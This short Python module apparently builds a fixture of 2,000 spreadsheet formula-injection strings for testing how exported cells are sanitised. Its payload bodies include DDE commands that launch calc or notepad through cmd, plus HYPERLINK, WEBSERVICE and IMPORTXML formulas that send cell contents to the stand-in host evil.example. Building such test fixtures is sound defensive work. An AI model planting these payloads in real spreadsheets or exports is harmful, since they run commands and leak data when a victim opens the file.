"""Two thousand texts that have been, or could be, run by a spreadsheet."""

from __future__ import annotations

import random

_RUN = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"看这里")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "1",
    "(1)",
    "@SUM(1)",
)
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "\0=", "|", "%")
_BEFORE = (
    "", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2028", "\t", "\v", "'\n", '"\n',
    "正常\n", "正常\r\n", "正常\r", "ok\u2028", '";', '",', "a,", "x\x85",
)  # fmt: skip


def payloads(number: int = 2000, seed: int = 27) -> list[str]:
    """``number`` different texts; the same for the same seed."""
    chance = random.Random(seed)
    every = [before + start + run for before in _BEFORE for start in _STARTS for run in _RUN]
    assert len(set(every)) >= number
    return chance.sample(sorted(set(every)), number)
